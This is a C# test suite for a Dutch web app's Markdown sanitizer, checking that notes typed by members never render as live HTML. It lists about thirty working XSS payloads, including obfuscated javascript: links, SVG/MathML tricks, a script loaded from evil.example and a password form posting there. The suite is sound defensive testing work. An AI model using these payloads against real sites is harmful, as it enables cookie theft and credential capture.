using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using System.Text.RegularExpressions;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Wehelpen.Web.Features.Shared;
using Wehelpen.Web.Tests.Circles;

namespace Wehelpen.Web.Tests.Notes;

/// <summary>Whatever a member types, nothing in it runs in another member's browser.</summary>
public sealed class SafeMarkdownTests
{
    /// <summary>Real attack strings, one per way in: raw HTML, event handlers, script URLs in every link syntax, SVG.</summary>
    private static readonly string[] AttackStrings =
    [
        "<script>alert('xss')</script>",
        "Hallo <script src=\"https://evil.example/x.js\"></script> daar",
        "<img src=x onerror=alert(1)>",
        "tekst <img src=x onerror=\"alert(document.cookie)\"> tekst",
        "[klik hier](javascript:alert(1))",
        "[klik hier](JaVaScRiPt:alert(1))",
        "[klik hier](&#106;avascript:alert(1))",
        "[klik hier](java\tscript:alert(1))",
        "[klik hier]( javascript:alert(1) )",
        "<javascript:alert(1)>",
        "[ref]\n\n[ref]: javascript:alert(1)",
        "![plaatje](javascript:alert(1))",
        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "<data:text/html,<script>alert(1)</script>>",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "[vb](vbscript:msgbox(1))",
        "<a href=\"javascript:alert(1)\">klik</a>",
        "<div onclick=\"alert(1)\">\n\n*nadruk*\n\n</div>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<svg onload=alert(1)><script>alert(2)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>klik</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<style>body { display: none }</style>",
        "<form action=\"https://evil.example\"><input name=password></form>",
        "[titel](https://example.org \"x\\\" onmouseover=\\\"alert(1)\")",
        "<object data=\"javascript:alert(1)\"></object>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "```html\n<script>alert(1)</script>\n```",
        "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    ];

    public static TheoryData<string> Attacks => new(AttackStrings);

    [Theory, MemberData(nameof(Attacks))]
    public void No_attack_string_comes_out_as_live_HTML(string markdown)
    {
        AssertHarmless(Parse(SafeMarkdown.ToHtml(markdown)));
    }

    [Theory, MemberData(nameof(Attacks))]
    public void The_sanitizer_alone_stops_every_attack_even_from_Markdown_rendered_with_raw_HTML_allowed(string markdown)
    {
        AssertHarmless(Parse(SafeMarkdown.Clean(Markdig.Markdown.ToHtml(markdown))));
    }

    [Fact]
    public void Ordinary_Markdown_becomes_headings_lists_bold_and_safe_links()
    {
        var html = Parse(SafeMarkdown.ToHtml(
            "# Apotheek\n**Belangrijk**: bel eerst.\nDan pas langskomen.\n- Paracetamol\n- Omeprazol\n\n[Thuisarts](https://www.thuisarts.nl) · <https://www.huisarts.nl> · " +
            "[mail](mailto:jan@example.nl) · [bel](tel:+31201234567) · ![foto](https://example.org/foto.jpg)"));

        Assert.Equal("Apotheek", html.QuerySelector("h2")!.TextContent); // under the page's own h1
        Assert.Null(html.QuerySelector("h1"));
        Assert.Equal("Belangrijk", html.QuerySelector("strong")!.TextContent);
        Assert.Equal(["Paracetamol", "Omeprazol"], html.QuerySelectorAll("li").Select(li => li.TextContent));
        // "Dan pas langskomen." is on its own line, as it was typed.
        Assert.NotNull(html.QuerySelector("br"));
        var links = html.QuerySelectorAll("a").ToList();
        Assert.Equal(
            ["https://www.thuisarts.nl", "https://www.huisarts.nl", "mailto:jan@example.nl", "tel:+31201234567", "https://example.org/foto.jpg"],
            links.Select(a => a.GetAttribute("href")));
        Assert.All(links, a => Assert.Superset(new HashSet<string> { "nofollow", "noopener" }, a.GetAttribute("rel")!.Split(' ').ToHashSet()));
        // A picture from elsewhere is a link to it, never loaded by the reader's browser.
        Assert.Null(html.QuerySelector("img"));
        Assert.Equal("foto", links[^1].TextContent);
    }

    [Theory, BothDatabases]
    public async Task Attack_strings_saved_in_a_note_are_kept_as_typed_but_never_served_as_live_HTML_by_the_API_or_the_pages(DatabaseProvider provider)
    {
        await using var app = await WehelpenApplication.StartAsync(provider);
        var c = await app.TwoCirclesAsync();
        var attack = string.Join("\n\n", AttackStrings);
        const string title = "<script>alert('titel')</script>";
        var noteId = await c.Member.CreateNoteAsync(c.CircleId, title, attack);
        Assert.Equal(HttpStatusCode.OK, (await c.Member.SaveNoteAsync(c.CircleId, noteId, attack + "\n\n[nog een](javascript:alert(2))", 1, title)).StatusCode);

        var note = await c.Coordinator.NoteAsync(c.CircleId, noteId);
        Assert.Equal(attack + "\n\n[nog een](javascript:alert(2))", note.GetProperty("text").GetString());
        AssertHarmless(Parse(note.GetProperty("html").GetString()!));
        var revision = await c.Coordinator.GetFromJsonAsync<JsonElement>($"{NoteSteps.NotesPath(c.CircleId)}/{noteId}/revisions/1");
        AssertHarmless(Parse(revision.GetProperty("html").GetString()!));

        using var browser = await app.BrowserAsync("Carla Coördinator", followRedirects: true);
        var root = $"/circles/{c.CircleId}/notes";
        foreach (var path in new[] { root, $"{root}/{noteId}", $"{root}/{noteId}/edit", $"{root}/{noteId}/history", $"{root}/{noteId}/history/1" })
        {
            var page = await browser.PageAsync(path);
            AssertHarmless(page.QuerySelector("main")!);
        }
        var shown = await browser.PageAsync($"{root}/{noteId}");
        Assert.Equal(title, shown.QuerySelector("h1")!.TextContent);
    }

    private static IElement Parse(string html) => new HtmlParser().ParseDocument($"<body>{html}</body>").Body!;

    private static void AssertHarmless(IElement root)
    {
        var elements = root.QuerySelectorAll("*").ToList();
        Assert.DoesNotContain(elements, e => e.LocalName is "script" or "style" or "iframe" or "object" or "embed" or "svg" or "math" or "img" or "meta" or "link" or "base");
        var attributes = elements.SelectMany(e => e.Attributes).ToList();
        Assert.DoesNotContain(attributes, a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase));
        Assert.DoesNotContain(attributes, a => a.Name is "src" or "srcdoc" or "style" or "formaction" or "xlink:href");
        foreach (var href in elements.Select(e => e.GetAttribute("href") ?? e.GetAttribute("action")).OfType<string>())
        {
            var scheme = Regex.Match(href.Trim(), "^([a-zA-Z][a-zA-Z0-9+.-]*):") is { Success: true } m ? m.Groups[1].Value.ToLowerInvariant() : null;
            Assert.True(scheme is null or "http" or "https" or "mailto" or "tel", $"Link to '{href}' got through.");
            Assert.DoesNotContain("script:", href, StringComparison.OrdinalIgnoreCase);
            Assert.False(href.TrimStart().StartsWith("data:", StringComparison.OrdinalIgnoreCase), $"Link to '{href}' got through.");
        }
    }
}
